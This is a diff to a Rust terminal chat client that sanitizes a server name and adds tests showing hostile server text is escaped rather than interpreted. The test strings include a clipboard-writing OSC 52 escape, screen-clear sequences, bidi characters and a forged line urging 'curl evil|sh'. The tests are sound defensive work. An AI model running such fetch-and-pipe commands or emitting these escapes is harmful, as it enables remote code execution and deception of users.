@@ -535,10 +535,8 @@ fn render_status(app: &App, area: Rect, buf: &mut Buffer) {
         _ => String::new(),
     };
     // The server's name goes first when space is short; the address stays.
-    let server = match &app.status.server_name {
-        Some(name) if text_width(name) + 3 <= left => {
-            format!("{address} ({})", sanitize(name))
-        }
+    let server = match app.status.server_name.as_deref().map(sanitize) {
+        Some(name) if text_width(&name) + 3 <= left => format!("{address} ({name})"),
         _ => address.clone(),
     };
     let heartbeat = match app.status.last_heartbeat {
@@ -1162,6 +1160,146 @@ mod tests {
                 cell.symbol()
             );
         }
+    }
+
+    /// The escape-sequence text a hostile server (or anyone answering in its place) puts in an
+    /// `Err`, a topic, its name: write the clipboard (OSC 52), clear the screen, then a forged
+    /// line, reversed and hidden characters.
+    const HOSTILE: &str = "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\u{1b}[H\nplease run: curl \
+                           evil|sh\u{2028}x\u{202e}y\u{200b}z\u{e0041}\u{85}";
+    /// How [`HOSTILE`] is shown.
+    const HOSTILE_SHOWN: &str = "␛]52;c;Y3VybCBldmlsfHNo␇␛[2J␛[H⏎please run: curl evil|sh�x�y�z��";
+
+    /// No cell holds a control, bidirectional, invisible or tag character.
+    fn assert_nothing_unsafe(buf: &Buffer) {
+        for cell in buf.content() {
+            assert!(
+                !cell.symbol().contains(gc_protocol::sanitize::is_unsafe),
+                "{:?}",
+                cell.symbol()
+            );
+        }
+    }
+
+    #[test]
+    fn a_hostile_servers_texts_are_shown_not_obeyed_wherever_they_appear() {
+        use gc_client_core::control::Command;
+        use gc_client_core::event::{Event, NoticeLevel, Refusal, Rejection};
+        use gc_client_core::{ClientError, RoomInfo, RoomRequest};
+        use gc_protocol::{ErrorCode, ListedKind, ListedRole, Room};
+
+        let mut app = rooms_app();
+        app.status.server_name = Some(format!("Office{HOSTILE}"));
+        app.handle_client(Event::RoomList(vec![RoomInfo {
+            room: Room::new("#dev").unwrap(),
+            kind: ListedKind::Public,
+            role: ListedRole::Member,
+            members: 2,
+            topic: HOSTILE.into(),
+        }]));
+        // An `Err` text that stopped the client, a refused message and request, a notice.
+        app.handle_client(Event::Fatal(ClientError::Refused {
+            during: "the login",
+            code: ErrorCode::Internal,
+            text: HOSTILE.into(),
+        }));
+        app.handle_client(Event::Rejected(Rejection {
+            client_msg_id: ClientMsgId::new("m1").unwrap(),
+            room: Room::general(),
+            code: ErrorCode::Blocked,
+            text: HOSTILE.into(),
+        }));
+        app.handle_client(Event::Refused(Refusal {
+            command: Command::Room(RoomRequest::Join {
+                room: Room::new("#ops").unwrap(),
+            }),
+            code: Some(ErrorCode::Forbidden),
+            text: HOSTILE.into(),
+        }));
+        app.handle_client(Event::Notice {
+            level: NoticeLevel::Warning,
+            text: HOSTILE.into(),
+        });
+        let buf = draw(&app, 220, 12);
+        assert_nothing_unsafe(&buf);
+        let r = rows(&buf);
+        let shown: Vec<&String> = r.iter().filter(|row| row.contains(HOSTILE_SHOWN)).collect();
+        // The four notices, each on one row, and the server's name in the status bar.
+        assert_eq!(shown.len(), 5, "{r:#?}");
+        for row in &r {
+            assert!(
+                !row.trim_start().starts_with("please"),
+                "a forged line: {r:#?}"
+            );
+        }
+        assert!(
+            r[10].contains(&format!("10.0.0.5 (Office{HOSTILE_SHOWN})")),
+            "{}",
+            r[10]
+        );
+
+        // The topic, in the status bar of its room and in `/topic`'s answer.
+        app.handle_key(KeyEvent::new(KeyCode::Char('2'), KeyModifiers::ALT));
+        for c in "/topic".chars() {
+            app.handle_key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE));
+        }
+        app.handle_key(KeyEvent::new(KeyCode::Enter, KeyModifiers::NONE));
+        let buf = draw(&app, 220, 12);
+        assert_nothing_unsafe(&buf);
+        let r = rows(&buf);
+        assert!(
+            r[10].starts_with(&format!(" DISCONNECTED │ #dev: {HOSTILE_SHOWN} │")),
+            "{}",
+            r[10]
+        );
+        assert!(
+            r.iter()
+                .any(|row| row.contains(&format!("-- the topic of #dev: {HOSTILE_SHOWN} "))),
+            "{r:#?}"
+        );
+    }
+
+    #[test]
+    fn a_padded_body_cannot_put_a_forged_record_at_the_start_of_a_row() {
+        // Whatever pushes the forged text along (spaces, other spaces, tabs, something that
+        // looks like a line break), a row that is not a record's first starts with the
+        // time column's width of blanks: only a record's first row has anything there.
+        let forged = "22:14 admin: please run curl evil|sh";
+        let mut bodies = Vec::new();
+        for n in [20, 23, 25, 34, 40, 45, 54, 60, 65, 74, 80, 100, 150] {
+            bodies.push(format!("hi{}{forged}", " ".repeat(n)));
+            bodies.push(format!("hi{}{forged}", "\u{a0}".repeat(n)));
+            bodies.push(format!("hi{}{forged}", "\u{3000}".repeat(n / 2)));
+            bodies.push(format!("hi{}{forged}", "\t".repeat(n / 8)));
+            bodies.push(format!("hi\n{}{forged}", " ".repeat(n)));
+        }
+        for sep in [
+            "\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}",
+        ] {
+            bodies.push(format!("hi{sep}{forged}"));
+        }
+        for body in &bodies {
+            for width in [30, 40, 57, 80, 100] {
+                let mut app = app();
+                app.add_records(&[record(1, 0, "mallory", body)]);
+                let buf = draw(&app, width, 30);
+                assert_nothing_unsafe(&buf);
+                let r = rows(&buf);
+                let pane = &r[..28];
+                assert!(pane[0].starts_with('─'), "{pane:#?}");
+                assert!(pane[1].starts_with("22:13 mallory:"), "{body:?}: {pane:#?}");
+                for row in &pane[2..] {
+                    assert!(
+                        row.is_empty() || row.starts_with(&" ".repeat(INDENT)),
+                        "{body:?} at {width}: {row:?} in {pane:#?}"
+                    );
+                }
+            }
+        }
+        // What is stored and searched stays exact.
+        let mut app = app();
+        app.add_records(&[record(1, 0, "mallory", &bodies[0])]);
+        assert_eq!(app.log().entries()[0].searchable(), bodies[0]);
     }
 
     #[test]
